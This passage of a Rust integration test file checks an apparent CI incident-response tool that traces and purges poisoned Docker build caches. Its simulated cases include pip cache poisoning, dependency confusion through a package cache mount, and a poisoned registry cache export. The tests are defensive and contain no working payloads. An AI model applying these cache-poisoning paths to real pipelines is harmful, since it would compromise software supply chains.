    let id = lab.open(&seed);
    lab.purge(&id);

    assert!(lab.exists("svc", &clean));
    assert!(!lab.exists("svc", &compromised));
    assert!(!lab.exists("svc", &patched));
    assert!(lab.mount_records(b, PIP).is_empty());
    let left = lab.record_ids(b);
    assert!(left.is_disjoint(&poisoned_layers));
    assert!(
        clean_records.is_subset(&left),
        "the clean run's layers were pruned"
    );
    assert!(lab.has_image(b, &svc_ref("1")));
    assert!(!lab.has_image(b, &svc_ref("2")) && !lab.has_image(b, &svc_ref("3")));

    lab.build(b, &SVC, "4", &svc, &svc_ref("4"), INLINE);
    assert_eq!(
        lab.files(b, &svc_ref("4"), "/app/site"),
        set(&["flask-2.0.2.whl"])
    );
    assert!(lab.layers("svc/4", "reused").is_disjoint(&poisoned_layers));
    assert_eq!(lab.tainted_runs(&seed), set(&["svc/2", "svc/3"]));
}

on_both_engines!(persistence_after_compromise);

/// Scenario 4: a higher version of an internal package planted in a package-manager cache is
/// installed by every build that read the cache after the plant; seeded by the mount and the
/// plant time, trace and purge cover exactly those builds and none from before.
fn dependency_confusion_through_a_mount_cache(engine: Engine) {
    let Some(lab) = Lab::start_on(engine, &["ci-pkg"], &[]) else {
        return;
    };
    const API: Job = job("api", "release");
    const WORKER: Job = job("worker", "internal");
    const PKG_FORK: Job = job("pkg-fork", "untrusted");
    let b = "ci-pkg";
    let host = lab.host();
    let api_ref = |run: &str| format!("{host}/api:{run}");
    let worker_ref = |run: &str| format!("worker:{run}");

    let api = lab.checkout("pkg-install", "api", "", &[("requirements.txt", "api-1\n")]);
    let api_before = lab.build_push(b, &API, "1", &api, &api_ref("1"));
    let worker = lab.checkout(
        "pkg-install",
        "worker",
        "",
        &[("requirements.txt", "worker-1\n")],
    );
    lab.build(b, &WORKER, "1", &worker, &worker_ref("1"), &[]);

    let plant = lab.checkout("pkg-plant", "pkg-fork", "", &[]);
    lab.build(b, &PKG_FORK, "1", &plant, "pkg-fork:1", &[]);
    let planted_at = lab
        .runs()
        .iter()
        .find(|r| run_name(r) == "pkg-fork/1")
        .map(|r| r["started_at"].as_str().unwrap().to_owned())
        .unwrap();

    let api = lab.checkout("pkg-install", "api", "", &[("requirements.txt", "api-2\n")]);
    let api_after = lab.build_push(b, &API, "2", &api, &api_ref("2"));
    let worker = lab.checkout(
        "pkg-install",
        "worker",
        "",
        &[("requirements.txt", "worker-2\n")],
    );
    lab.build(b, &WORKER, "2", &worker, &worker_ref("2"), &[]);
    assert_eq!(
        lab.files(b, &api_ref("1"), "/app"),
        set(&["installed", "internal-lib-1.2.0.tgz"])
    );
    assert_eq!(
        lab.files(b, &api_ref("2"), "/app"),
        set(&["installed", "internal-lib-99.0.0.tgz"])
    );
    assert_eq!(
        lab.files(b, &worker_ref("2"), "/app"),
        set(&["installed", "internal-lib-99.0.0.tgz"])
    );

    let seed = ["--mount", "ci-pkg:pkgs", "--since", planted_at.as_str()];
    assert_eq!(
        lab.tainted_runs(&seed),
        set(&["pkg-fork/1", "api/2", "worker/2"])
    );
    assert_eq!(
        lab.all_runs(),
        set(&["api/1", "worker/1", "pkg-fork/1", "api/2", "worker/2"])
    );
    let before: BTreeSet<String> = ["api/1", "worker/1"]
        .iter()
        .flat_map(|r| lab.layers(r, "created"))
        .collect();
    let after: BTreeSet<String> = ["api/2", "worker/2"]
        .iter()
        .flat_map(|r| lab.layers(r, "created"))
        .collect();
    let id = lab.open(&seed);
    lab.purge(&id);

    assert!(lab.exists("api", &api_before));
    assert!(!lab.exists("api", &api_after));
    assert!(lab.mount_records(b, "/var/cache/pkgs").is_empty());
    let left = lab.record_ids(b);
    assert!(
        before.is_subset(&left),
        "layers built before the plant were pruned"
    );
    assert!(
        left.is_disjoint(&after),
        "layers built after the plant survived"
    );
    assert!(lab.has_image(b, &api_ref("1")) && lab.has_image(b, &worker_ref("1")));
    assert!(!lab.has_image(b, &api_ref("2")) && !lab.has_image(b, &worker_ref("2")));

    lab.build(b, &API, "3", &api, &api_ref("3"), INLINE);
    assert_eq!(
        lab.files(b, &api_ref("3"), "/app"),
        set(&["installed", "internal-lib-1.2.0.tgz"])
    );
    assert_eq!(
        lab.tainted_runs(&seed),
        set(&["pkg-fork/1", "api/2", "worker/2"])
    );
}

on_both_engines!(dependency_confusion_through_a_mount_cache);

/// Scenario 5: a build that consumed the pip cache before it was poisoned is reported clean,
/// and its pushed cache, local image and layers survive the purge: rebuilding it is a cache hit.
fn time_matters(engine: Engine) {
    let Some(lab) = Lab::start_on(engine, &["ci-web"], &[]) else {
        return;
    };
    let b = "ci-web";
    let host = lab.host();
    let web_ref = |run: &str| format!("{host}/webapp:{run}");

    let webapp = lab.pip_app("webapp", "flask-2.0.1", "");
    let before = lab.build_push(b, &WEBAPP, "1", &webapp, &web_ref("1"));
    let fork = lab.checkout("pip-plant", "fork", "", &[]);
    lab.build(b, &FORK, "1", &fork, "fork-pr:1", &[]);
    let webapp = lab.pip_app("webapp", "flask-2.0.2", "");
    let after = lab.build_push(b, &WEBAPP, "2", &webapp, &web_ref("2"));
    assert!(lab.files(b, &web_ref("2"), "/app/site").contains(PLANTED));

    let seed = ["--pipeline", "fork-pr"];
    assert_eq!(lab.tainted_runs(&seed), set(&["fork-pr/1", "webapp/2"]));
    assert_eq!(lab.all_runs(), set(&["webapp/1", "fork-pr/1", "webapp/2"]));
    let trace = lab.trace(&seed);
    assert!(
        !trace.to_string().contains(&before),
        "the early image is in the blast radius: {trace:#}"
    );
    let early = lab.layers("webapp/1", "created");
    let id = lab.open(&seed);
    lab.purge(&id);

    assert!(lab.exists("webapp", &before), "the early cache was deleted");
    assert!(!lab.exists("webapp", &after));
    assert!(
        lab.has_image(b, &web_ref("1")),
        "the early image was removed"
    );
    assert!(!lab.has_image(b, &web_ref("2")));
    assert!(
        early.is_subset(&lab.record_ids(b)),
        "the early layers were pruned"
    );
    assert!(lab.mount_records(b, PIP).is_empty());

    // Rebuilding the early commit is served from its surviving layers, and is clean.
    let webapp = lab.checkout(
        "pip-app",
        "webapp",
        "",
        &[("requirements.txt", "flask-2.0.1\n")],
    );
    lab.build(b, &WEBAPP, "3", &webapp, &web_ref("3"), INLINE);
    if layer_cache_survives_a_prune(engine) {
        assert!(early.is_subset(&lab.layers("webapp/3", "reused")));
        assert!(lab.layers("webapp/3", "created").is_empty());
    }
    assert_eq!(
        lab.files(b, &web_ref("3"), "/app/site"),
        set(&["flask-2.0.1.whl"])
    );
    assert_eq!(lab.tainted_runs(&seed), set(&["fork-pr/1", "webapp/2"]));
}

on_both_engines!(time_matters);

/// Scenario 6, on Docker 26: an untrusted pipeline exports a registry cache (`--cache-to
/// type=registry,mode=max`) built on a poisoned pip cache and a trusted pipeline on another
/// builder imports it. The trace from the exporter reaches the importer, the purge deletes the
/// cache index from the registry, `incident verify` is clean, and the importer's rebuild runs
/// the poisoned step again and is clean.
#[test]
fn poisoned_registry_cache_export() {
    let Some(lab) = Lab::start_on(Engine::Docker26, &["ci-fork", "ci-release"], &[]) else {
        return;
    };
    const RELEASE: Job = Job {
        pipeline: "release",
        trust: "release",
    };
    let host = lab.host();
    let cache_ref = format!("{host}/app:cache");
    let to = format!("type=registry,ref={cache_ref},mode=max");
    let from = format!("type=registry,ref={cache_ref}");
    let requirements = [("requirements.txt", "flask-2.0.1\n")];

    let plant = lab.checkout("pip-plant", "fork-plant", "", &[]);
    lab.buildx(
        "ci-fork",
        &FORK,
        "1",
        &plant,
        &format!("{host}/plant:1"),
        &[],
    );
    let fork = lab.checkout("pip-app", "fork", "", &requirements);
    lab.buildx(
        "ci-fork",
        &FORK,
        "1",
        &fork,
        &format!("{host}/fork:1"),
        &["--cache-to", &to],
    );
    let exported = lab.registry.any_manifest_digest("app", "cache");
    let index = lab
        .registry
        .request(
            Request::new("GET", &format!("/v2/app/manifests/{exported}"))
                .header("Accept", "application/vnd.oci.image.index.v1+json"),
        )
        .json();
    // A registry cache export: an index of the layer blobs and the cache config. Deleting the
    // index removes the export; the blobs stay until `registry garbage-collect`.
    let entries: Vec<&str> = index["manifests"]
        .as_array()
        .unwrap_or_else(|| panic!("the cache export is an index: {index}"))
        .iter()
        .map(|m| m["mediaType"].as_str().unwrap())
        .collect();
    assert!(
        entries.contains(&"application/vnd.buildkit.cacheconfig.v0"),
        "{index}"
    );

    let release = lab.checkout("pip-app", "release", "", &requirements);
    let release_args = ["--cache-from", from.as_str()];
    let release_ref = |run: &str| format!("{host}/release:{run}");
    let first = lab.buildx(
        "ci-release",
        &RELEASE,
        "1",
        &release,
        &release_ref("1"),
        &release_args,
    );
    assert!(
        step_cached(&first, "RUN --mount"),
        "the importer did not hit the exported cache:\n{first}"
    );
    assert_eq!(
        lab.files("ci-release", &release_ref("1"), "/app/site"),
        set(&["flask-2.0.1.whl", PLANTED]),
        "the attack did not reach the importer"
    );
    let victim = lab
        .runs()
        .into_iter()
        .find(|r| run_name(r) == "release/1")
        .unwrap();
    assert_eq!(
        victim["imported"],
        serde_json::json!([format!("{cache_ref}@{exported}")]),
        "the import is recorded by the digest BuildKit resolved: {victim}"
    );

    let seed = ["--pipeline", "fork-pr"];
    assert_eq!(lab.tainted_runs(&seed), set(&["fork-pr/1", "release/1"]));
    let trace = lab.trace(&seed);
    let reached = trace["runs"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["pipeline"] == "release")
        .cloned()
        .unwrap_or_else(|| panic!("the importer is traced: {trace:#}"));
    assert_eq!(reached["via"]["kind"], "imported-digest", "{reached}");

    let id = lab.open(&seed);
    lab.purge(&id);
    assert!(
        !lab.exists("app", &exported),
        "the poisoned cache export survived"
    );
    assert!(
        lab.registry.tags("app").is_empty(),
        "{:?}",
        lab.registry.tags("app")
    );
    assert!(!lab.has_image("ci-release", &release_ref("1")));
    let verified = lab.cw().args(["incident", "verify", &id]).output().unwrap();
    assert!(
        verified.status.success(),
        "{}{}",
        String::from_utf8_lossy(&verified.stdout),
        String::from_utf8_lossy(&verified.stderr)
    );

    // Proof: the same job, with the same flags, misses the cache and builds a clean image.
    let again = lab.buildx(
        "ci-release",
        &RELEASE,
        "2",
        &release,
        &release_ref("2"),
        &release_args,
    );
    assert!(
        again.contains(&format!(
            "failed to configure registry cache importer: {cache_ref}: not found"
        )),
        "the rebuild still found the export:\n{again}"
    );
    assert!(
        !step_cached(&again, "RUN --mount"),
        "the rebuild was served the poisoned step from cache:\n{again}"
    );
    assert_eq!(
        lab.files("ci-release", &release_ref("2"), "/app/site"),
        set(&["flask-2.0.1.whl"])
    );
}

/// Two mount ids at one target path: an untrusted project poisons mount `a` at `/c`, a
/// trusted one keeps its own mount `b` at `/c`. Docker 26 names each record's id, so the purge
/// of `a` prunes exactly its records and leaves `b`'s; Docker 20.10 names only the target, so
/// the mount purge refuses to guess and says which records to check, and the record the
/// untrusted run named goes by its id as a build record.
fn mounts_sharing_a_target_are_told_apart(engine: Engine) {
    let Some(lab) = Lab::start_on(engine, &["ci-1"], &[]) else {
        return;
    };
    let b = "ci-1";
    let write = |dir: &str, id: &str, text: &str| {
        let to = lab.env.path().join("src").join(dir);
        std::fs::create_dir_all(&to).unwrap();
        std::fs::write(
            to.join("Dockerfile"),
            format!(
                "FROM {}\nRUN --mount=type=cache,id={id},target=/c echo {text} > /c/{text} && ls /c > /seen\n",
                lab.base
            ),
        )
        .unwrap();
        to
    };
    let fork = write("fork", "a", "planted");
    lab.build(b, &FORK, "1", &fork, "fork-pr:1", &[]);
    let planted = lab.mount_records(b, "/c");
    let webapp = write("webapp", "b", "kept");
    lab.build(b, &WEBAPP, "1", &webapp, "webapp:1", &[]);
    let kept: BTreeSet<String> = lab
        .mount_records(b, "/c")
        .difference(&planted)
        .cloned()
        .collect();
    assert!(
        planted.len() == 1 && kept.len() == 1,
        "{planted:?} {kept:?}"
    );
    let seed = ["--pipeline", "fork-pr"];
    assert_eq!(lab.tainted_runs(&seed), set(&["fork-pr/1"]));

    let id = lab.open(&seed);
    let left = match engine {
        Engine::Docker26 => {
            lab.purge(&id);
            ok(lab.cw().args(["incident", "verify", &id]));
            kept.clone()
        }
        Engine::Docker20 => {
            let out = lab
                .cw()
                .args(["incident", "purge", &id, "--execute", "--yes"])
                .output()
                .unwrap();
            let text = String::from_utf8_lossy(&out.stderr).into_owned()
                + &String::from_utf8_lossy(&out.stdout);
            assert_eq!(out.status.code(), Some(1), "{text}");
            let report = ok(lab.cw().args(["incident", "report", &id]));
            assert!(report.contains("also used by mount ids b"), "{report}");
            // The planted record itself goes by its id all the same: the untrusted run named
            // it first, so the trace takes it for a record of unknown kind it made.
            kept.clone()
        }
    };
    assert_eq!(lab.mount_records(b, "/c"), left);
}

on_both_engines!(mounts_sharing_a_target_are_told_apart);
